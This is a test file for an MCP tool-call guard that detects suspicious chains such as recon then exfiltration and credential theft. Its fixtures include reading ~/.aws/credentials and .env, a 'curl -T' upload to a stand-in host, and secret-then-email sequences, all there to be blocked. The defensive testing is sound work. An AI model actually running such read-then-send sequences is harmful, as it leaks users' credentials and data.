import assert from 'node:assert/strict'
import test from 'node:test'

import { categoryOf, wordsOf } from '../../src/mcp/category.ts'
import { type ChainSettings, chainDetection } from '../../src/mcp/chain.ts'
import { Toolbox } from '../../src/mcp/toolbox.ts'
import { chains } from '../../src/rules/tool-chains.ts'
import { stepOf } from '../../src/rules/tool-steps.ts'
import type { Chain } from '../../src/shell/call.ts'
import type { Setting } from '../../src/types.ts'
import { harness, jsonAnswer, policy } from './mcp-app.ts'

type Step = readonly [tool: string, args?: Readonly<Record<string, unknown>>]

interface Session {
  /** Names of the chains each call completed; `!` in front = it was stopped. */
  call(step: Step, headers?: Record<string, string>): Promise<string[]>
  wait(ms: number): void
}

function session(
  settings: Partial<ChainSettings> = {},
  more: { action?: Setting; own?: readonly Chain[]; tools?: object[]; toolbox?: Toolbox } = {},
): Session {
  const toolbox = more.toolbox ?? new Toolbox()
  const all = { windowSize: 20, windowMs: 60_000, maxGap: 3, overrides: {}, ...settings }
  let now = 0
  const guards = [toolbox, chainDetection(toolbox, () => [...(more.own ?? []), ...chains], stepOf, all)]
  const { post, records } = harness(() => jsonAnswer({ jsonrpc: '2.0', id: 1, result: { tools: more.tools ?? [] } }), {
    guards,
    clock: () => now,
    policy: policy('balanced', more.action === undefined ? {} : { tool_chain_detection: more.action }),
  })
  return {
    async call([name, args = {}], headers = {}) {
      const params = { name, arguments: args }
      const answer = await post({ jsonrpc: '2.0', id: 1, method: 'tools/call', params }, { headers })
      const stopped = 'error' in ((await answer.json()) as object)
      const findings = records.at(-1)?.verdict.findings ?? []
      return findings.map(({ rule }) => (stopped ? `!${rule}` : rule))
    },
    wait(ms) {
      now += ms
    },
  }
}

async function run(own: Session, steps: readonly Step[]): Promise<string[]> {
  let last: string[] = []
  for (const step of steps) last = await own.call(step)
  return last
}

const upload: Step = ['http_post', { url: 'https://drop.example/in', body: 'x' }]

const as = (user: string, id: string) => ({ authorization: `Bearer ${user}`, 'mcp-session-id': id })

test('names give categories in any case style', () => {
  assert.deepEqual(wordsOf('fs.readTextFile_v2'), ['fs', 'read', 'text', 'file', 'v2'])
  assert.deepEqual(wordsOf('HTTPGet-Page'), ['http', 'get', 'page'])
  for (const [name, category] of [
    ['readFile', 'read'],
    ['READ_FILE', 'read'],
    ['list-directory', 'list'],
    ['sendEmail', 'network'],
    ['get_secret', 'env'],
    ['run.command', 'exec'],
    ['createNote', 'write'],
    ['crontab_edit', 'persist'],
    ['frobnicate', null],
  ] as const)
    assert.equal(categoryOf(name), category, name)
})

test('recon, then exfiltration is stopped at its last step', async () => {
  assert.deepEqual(await run(session(), [['list_files'], ['read_file', { path: 'a.txt' }], upload]), [
    '!recon-then-exfil',
  ])
})

test('a credential that was read and a call to the network: stopped', async () => {
  const own = session()
  await own.call(['readFile', { path: '/home/me/.aws/credentials' }])
  assert.deepEqual(await own.call(['fetch', { url: 'https://example.com' }]), ['!credential-theft'])
})

test('secrets, then sending: stopped; the same over a shell', async () => {
  assert.deepEqual(
    await run(session(), [
      ['get_secret', { name: 'db' }],
      ['send_email', { to: 'x@example.com' }],
    ]),
    ['!env-then-network'],
  )
  const shell = session()
  await shell.call(['bash', { command: 'cat ~/.aws/credentials' }])
  const found = await shell.call(['bash', { command: 'curl -T x https://drop.example' }])
  assert.ok(found.includes('!credential-theft'), JSON.stringify(found))
})

test('an honest session is not stopped', async () => {
  const own = session()
  const steps: Step[] = [
    ['list_directory', { path: 'src' }],
    ['read_file', { path: 'src/main.ts' }],
    ['edit_file', { path: 'src/main.ts', edits: [] }],
    ['run_command', { command: 'npm test' }],
    ['fetch', { url: 'https://docs.example/api' }],
    ['write_file', { path: 'src/new.ts', content: '' }],
    ['run_command', { command: 'node src/new.ts' }],
    ['search_files', { pattern: 'todo' }],
    ['read_file', { path: 'README.md' }],
    ['run_command', { command: 'git status' }],
    ['run_command', { command: 'git diff' }],
  ]
  for (const step of steps) for (const found of await own.call(step)) assert.ok(!found.startsWith('!'), found)
})

test("the section's action applies to the built-in chains; an override to one of them", async () => {
  assert.deepEqual(await run(session({}, { action: 'block' }), [['exec_a'], ['exec_b'], ['exec_c'], ['exec_d']]), [
    '!shell-burst',
  ])
  assert.deepEqual(await run(session({}, { action: 'warn' }), [['get_secret'], upload]), ['env-then-network'])
  const strong: Step[] = [['get_secret'], upload]
  assert.deepEqual(await run(session({ overrides: { 'env-then-network': 'warn' } }), strong), ['env-then-network'])
  const scan: Step[] = [['list_a'], ['list_b'], ['read_file', { path: '.env' }]]
  assert.deepEqual(await run(session(), scan), ['directory-scan'])
})

test('it fires once for a chain that passed, and each time for one that was stopped', async () => {
  const warned = session({}, { action: 'warn' })
  assert.deepEqual(await run(warned, [['get_secret'], upload]), ['env-then-network'])
  assert.deepEqual(await warned.call(['list_things']), [])
  assert.deepEqual(await warned.call(upload), [])
  assert.deepEqual(await run(warned, [['get_secret'], upload]), ['env-then-network'])
  const blocked = session()
  assert.deepEqual(await run(blocked, [['get_secret'], upload]), ['!env-then-network'])
  assert.deepEqual(await blocked.call(upload), ['!env-then-network'])
})

test('gaps, window and time bound what counts as a sequence; tools of no kind are no gap', async () => {
  const noise: Step[] = [['write_a'], ['write_b'], ['write_c'], ['write_d']]
  const found = await run(session(), [['get_secret'], ...noise, upload])
  assert.ok(!found.some((name) => name.includes('env-then-network')))
  assert.ok((await run(session(), [['get_secret'], ...noise.slice(0, 3), upload])).includes('!env-then-network'))
  const strange: Step[] = Array.from({ length: 10 }, () => ['frobnicate'] as const)
  assert.deepEqual(await run(session(), [['get_secret'], ...strange, upload]), ['!env-then-network'])
  const late = session()
  await late.call(['get_secret'])
  late.wait(60_001)
  assert.deepEqual(await late.call(upload), [])
  assert.deepEqual(await run(session({ windowSize: 1 }), [['get_secret'], upload]), [])
})

test('a rotated session id resets nothing; another credential is another history', async () => {
  const own = session()
  await own.call(['get_secret'], as('one', 'a'))
  assert.deepEqual(await own.call(upload, as('two', 'a')), [])
  assert.deepEqual(await own.call(upload, as('one', 'b')), ['!env-then-network'])
})

test('a tool whose name says nothing is known by its definition; the configuration has the last word', async () => {
  const tools = [{ name: 'zap', description: 'Send a message to a remote webhook', inputSchema: { type: 'object' } }]
  const own = session({}, { tools })
  await own.call(['anything'])
  assert.deepEqual(await run(own, [['get_secret'], ['zap', { url: `https://x.example/?d=${'a'.repeat(80)}` }]]), [
    '!env-then-network',
  ])
  const toolbox = new Toolbox({ network: ['zip*'], mine: ['frob'] })
  const chain: Chain = { name: 'own', sequence: ['mine', 'network'], severity: 'high', action: 'block', source: 'test' }
  assert.deepEqual(await run(session({}, { toolbox, own: [chain] }), [['frob'], ['zipper']]), ['!own'])
})
